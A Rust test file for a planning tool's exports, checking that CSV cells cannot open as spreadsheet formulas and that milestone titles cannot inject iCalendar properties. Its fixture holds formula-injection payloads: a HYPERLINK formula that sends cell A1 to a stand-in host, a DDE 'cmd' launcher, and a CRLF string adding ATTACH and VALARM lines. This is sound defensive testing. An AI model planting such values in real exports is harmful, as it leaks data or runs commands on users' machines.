//! Exports that do nothing when opened: every text of the plan reaches
//! `initiatives.csv` and `milestones.ics`, and a writer can type anything
//! into it, so no cell may open as a spreadsheet formula and no title may
//! start a calendar property of its own.

use std::fs;

use crate::exports::{BOM, csv_rows, events, read, text_value, unfold};
use crate::support::Project;

/// An initiative whose every text field starts like a formula, and one with
/// a signed number for a number and text starting with a tab and a CR.
fn hostile() -> Project {
    let project = Project::minimal();
    project.file("content/directions/cyber.md", "---\ntitle: \"-2+3\"\n---\n");
    project.file(
        "content/initiatives/soc.md",
        r#"---
title: "=HYPERLINK(\"https://x.example/?\"&A1;\"SOC\")"
number: "-1+1"
directions: [cyber]
owner: ["@SUM(1+1)", "＝1+1"]
start: 2027-Q1
end: 2027-Q4
status: active
budget: {amount: 1234.5, note: "+cmd|' /C calc'!A0"}
milestones:
  - {quarter: 2027-Q2, title: "Pilot\r\nATTACH:https://x.example/evil\r\nBEGIN:VALARM"}
---
"#,
    );
    project.file(
        "content/initiatives/tal.md",
        "---\ntitle: \"\\tTab\"\nnumber: \"-1\"\ndirections: [cyber]\nowner: \"\\rKL\"\nstatus: planned\nbudget: 34000000\n---\n",
    );
    project
}

#[test]
fn no_csv_cell_opens_as_a_formula_and_budgets_stay_numbers() {
    let project = hostile();
    project.build();
    let bytes = read(&project, "initiatives.csv");
    let text = std::str::from_utf8(bytes.strip_prefix(BOM).unwrap()).unwrap();
    let rows: Vec<&str> = text.split("\r\n").collect();
    assert_eq!(
        rows[1..],
        [
            " -1;tal;'\tTab;'-2+3;\"'\rKL\";;;;;Planlagt;;34000000;;;initiatives/tal.html",
            "'-1+1;soc;\"'=HYPERLINK(\"\"https://x.example/?\"\"&A1;\"\"SOC\"\")\";'-2+3;\"'@SUM(1+1);' ＝1+1\";;2027-Q1;2027-Q4;;I gang;;1234,50;'+cmd|' /C calc'!A0;;initiatives/soc.html",
            "",
        ],
        "each text cell neutralised, a signed number behind a space, budgets plain numbers"
    );
    // In English, with `,` between cells: the same cells, and a decimal point.
    let config = fs::read_to_string(project.path().join("stratdoc.yaml")).unwrap();
    project.file("stratdoc.yaml", config.replace("language: da", "language: en"));
    project.build();
    let rows = csv_rows(&read(&project, "initiatives.csv"), b',');
    assert_eq!(
        [&rows[2][0], &rows[2][2], &rows[2][11], &rows[2][12]],
        [
            "'-1+1",
            "'=HYPERLINK(\"https://x.example/?\"&A1;\"SOC\")",
            "1234.50",
            "'+cmd|' /C calc'!A0"
        ]
    );
}

#[test]
fn a_line_break_in_a_milestone_cannot_start_a_calendar_property() {
    let project = hostile();
    project.build();
    let text = String::from_utf8(read(&project, "milestones.ics")).unwrap();
    let crlf = text.matches("\r\n").count();
    assert_eq!((text.matches('\r').count(), text.matches('\n').count()), (crlf, crlf), "{text:?}");
    let names: Vec<String> = unfold(&text)
        .iter()
        .map(|line| line.split([':', ';']).next().unwrap().to_owned())
        .collect();
    assert_eq!(names.iter().filter(|n| *n == "BEGIN").count(), 2, "{text}");
    assert!(!names.iter().any(|n| n == "ATTACH"), "{text}");
    let summary = text_value(&events(&text)[0]["SUMMARY"]);
    assert!(
        summary.ends_with(": Pilot\nATTACH:https://x.example/evil\nBEGIN:VALARM"),
        "the title is kept as text, its line breaks escaped: {summary:?}"
    );
}
